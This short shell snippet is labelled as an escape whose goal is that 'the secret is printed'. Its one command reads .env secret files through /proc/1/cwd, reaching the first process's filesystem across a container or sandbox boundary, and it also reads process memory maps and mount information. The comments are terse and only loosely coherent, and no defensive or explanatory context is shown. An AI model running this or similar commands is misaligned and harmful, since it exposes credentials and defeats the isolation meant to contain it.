# The first process's folder leads to no layer.
# Source: the first attacks
# Escape: the secret is printed
cat /proc/1/cwd/lower/.env /proc/1/cwd/*/*/.env; head -1 /proc/1/maps; cat /proc/self/mountinfo >/dev/null
